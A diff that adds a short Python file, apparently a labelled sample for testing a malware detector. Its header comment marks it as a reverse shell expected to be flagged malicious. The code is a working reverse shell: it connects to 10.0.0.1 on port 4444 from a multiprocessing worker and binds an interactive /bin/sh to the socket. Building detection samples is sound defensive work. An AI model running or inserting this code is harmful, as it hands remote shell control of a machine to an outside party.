@@ -0,0 +1,20 @@
+# 反弹shell放在multiprocessing.Process的target中执行，带位置参数启动
+# detect-expect: 'IsMalicious': True, 'Desc': 'Reverse shell'
+import multiprocessing
+import os
+import socket
+import subprocess
+
+
+def worker(port):
+    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    s.connect(("10.0.0.1", port))
+    os.dup2(s.fileno(), 0)
+    os.dup2(s.fileno(), 1)
+    subprocess.call(["/bin/sh", "-i"])
+
+
+if __name__ == "__main__":
+    p = multiprocessing.Process(target=worker, args=(4444,))
+    p.start()
+    p.join()